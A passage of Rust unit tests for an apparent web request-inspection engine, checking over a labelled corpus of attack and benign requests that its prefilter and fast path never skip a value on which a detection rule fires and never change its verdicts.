    fn for_each_corpus_request(mut each: impl FnMut(&RequestView<'_>, &serde_json::Value)) -> bool {
        let dir = std::env::var("APIGUARD_CORPUS")
            .unwrap_or_else(|_| "/work/shared/corpus/dev".to_string());
        let client = ClientInfo {
            peer: SocketAddr::from(([192, 0, 2, 1], 5555)),
            tls: false,
            client_cert_subject: None,
            client_cert_sans: vec![],
        };
        for file in ["attacks.jsonl", "benign.jsonl"] {
            let Ok(text) = std::fs::read_to_string(format!("{dir}/{file}")) else {
                eprintln!("corpus {dir}/{file} not found; skipped");
                return false;
            };
            for raw in text.lines().filter(|l| !l.trim().is_empty()) {
                let line: serde_json::Value = serde_json::from_str(raw).expect("JSON line");
                let Some((method, uri, headers, body)) = corpus_request(&line) else {
                    continue;
                };
                let view = RequestView {
                    method: &method,
                    uri: &uri,
                    version: Version::HTTP_11,
                    headers: &headers,
                    client: &client,
                    route: "test",
                    request_id: "t",
                    body: Some(&body),
                };
                each(&view, &line);
            }
        }
        true
    }

    /// The fast path only skips values on which no rule fires: on every value of the dev
    /// corpus that it skips (targets, embedded arguments, base64 texts), the whole rule set
    /// run without any prefilter finds nothing, for plain and for base64-only rules. JSON keys
    /// and values are judged with the literals the whole-document search found in them, as
    /// the engine does, and that search must agree with a search of the value itself.
    #[test]
    fn fast_path_never_skips_a_value_on_which_a_rule_fires() {
        let gated = Engine::new(EngineConfig::default(), &[]).expect("engine");
        let mut full = Engine::new(EngineConfig::default(), &[]).expect("engine");
        full.prefilter = false;
        let rule_count = gated.rules.rules.len();
        let (mut values, mut skipped, mut prescanned, mut quick_settled) = (0, 0, 0, 0);
        let found = for_each_corpus_request(|view, line| {
            let (targets, _) = collect::collect_owned(view, &gated.config, Some(&gated.rules));
            for (index, (target, literals)) in targets.iter().enumerate() {
                if target.value.is_empty() {
                    continue;
                }
                let decoded = normalize::decode(&target.value);
                let mut pieces: Vec<(String, String, Option<LiteralMask>)> =
                    vec![(target.value.clone(), decoded.to_string(), *literals)];
                for sub in embedded_values(&decoded) {
                    pieces.push((sub.to_string(), normalize::decode(sub).into_owned(), None));
                }
                if let Some(text) = base64::decode_runs(&decoded, target.kind == TargetKind::Path) {
                    let text_decoded = normalize::decode(&text).into_owned();
                    pieces.push((text, text_decoded, None));
                }
                let view = TargetRef::new(target.kind, &target.name, &target.value);
                let bit = view.group().bit();
                for (piece, (raw, dec, literals)) in pieces.iter().enumerate() {
                    values += 1;
                    let features = Features::of(dec);
                    let mut fast = FastScratch::new(rule_count);
                    let mut scanned = false;
                    if raw != dec {
                        continue;
                    }
                    if let Some(mask) = literals {
                        prescanned += 1;
                        // The document search finds what a search of the value finds.
                        let mut armed = Bits::with_len(rule_count);
                        scan(&gated.rules.gate, dec, &features, &mut armed);
                        let plan = &gated.rules.plans[bit.trailing_zeros() as usize];
                        let own = armed.intersects(&plan.members);
                        let doc = mask.arms(bit, &features);
                        assert_eq!(own, doc, "literals of {target} = {raw:?} in {}", line["id"]);
                    }
                    let quiet = gated.rules.quick_silent(
                        bit,
                        dec,
                        &features,
                        *literals,
                        &mut FastScratch::new(rule_count),
                    );
                    if let Some(mask) = literals {
                        // The collector's own settlement of the plainest JSON items is a case
                        // of the quick check.
                        assert!(
                            !gated.rules.plainly_silent(bit, &features, *mask) || quiet,
                            "{target} = {raw:?}"
                        );
                    }
                    let quick = quiet && !base64_possible(target.kind, dec, &features);
                    let silence = gated.rules.fast_silent(
                        bit,
                        dec,
                        &features,
                        *literals,
                        &mut fast,
                        &mut scanned,
                    );
                    if quiet {
                        // Whatever base64 may hide, the quick check settles the value itself
                        // (`inspect_target` then looks at its base64 text only).
                        assert_eq!(silence, Silence::Plain, "{target} = {raw:?}");
                    }
                    if quick {
                        quick_settled += 1;
                        // What the quick check settles, the fast path settles at once too,
                        // and nothing was split off the value.
                        assert_eq!(silence, Silence::Plain, "{target} = {raw:?}");
                        if piece == 0 {
                            assert_eq!(pieces.len(), 1, "{target} = {raw:?}");
                        }
                    }
                    if silence == Silence::Unknown {
                        continue;
                    }
                    skipped += 1;
                    let mut sink = Sink::new(&full);
                    let mut scratch = Scratch::new(rule_count);
                    let ctx = TargetCtx {
                        index,
                        target: &view,
                        bit,
                        display: OnceCell::new(),
                    };
                    for from_base64 in [false, true] {
                        full.run_groups(
                            &ctx,
                            raw,
                            dec,
                            &features,
                            None,
                            from_base64,
                            &mut sink,
                            &mut scratch,
                        );
                    }
                    assert!(
                        sink.seen.is_empty(),
                        "the fast path skipped {target} = {raw:?} of {} on which {:?} fire",
                        line["id"],
                        sink.findings
                    );
                }
            }
        });
        if found {
            eprintln!(
                "fast path: {skipped} of {values} values skipped, {quick_settled} by the quick \
                 check ({prescanned} judged by a document search)"
            );
            assert!(skipped > 0 && prescanned > 0 && quick_settled > 0);
        }
    }

    /// The prefilter only skips work on the whole labelled dev corpus too (set
    /// `APIGUARD_CORPUS` to another directory; skipped when the corpus is absent).
    #[test]
    fn prefilter_never_changes_findings_on_the_corpus() {
        let dir = std::env::var("APIGUARD_CORPUS")
            .unwrap_or_else(|_| "/work/shared/corpus/dev".to_string());
        let gated = Engine::new(EngineConfig::default(), &[]).expect("engine");
        let mut full = Engine::new(EngineConfig::default(), &[]).expect("engine");
        full.prefilter = false;
        let client = ClientInfo {
            peer: SocketAddr::from(([192, 0, 2, 1], 5555)),
            tls: false,
            client_cert_subject: None,
            client_cert_sans: vec![],
        };
        let mut compared = 0;
        for file in ["attacks.jsonl", "benign.jsonl"] {
            let Ok(text) = std::fs::read_to_string(format!("{dir}/{file}")) else {
                eprintln!("corpus {dir}/{file} not found; skipped");
                return;
            };
            for raw in text.lines().filter(|l| !l.trim().is_empty()) {
                let line: serde_json::Value = serde_json::from_str(raw).expect("JSON line");
                let Some((method, uri, headers, body)) = corpus_request(&line) else {
                    continue;
                };
                let view = RequestView {
                    method: &method,
                    uri: &uri,
                    version: Version::HTTP_11,
                    headers: &headers,
                    client: &client,
                    route: "test",
                    request_id: "t",
                    body: Some(&body),
                };
                assert_eq!(
                    gated.inspect(&view),
                    full.inspect(&view),
                    "prefilter changed the verdict for {}",
                    line["id"]
                );
                compared += 1;
            }
        }
        assert!(compared > 0);
    }
}
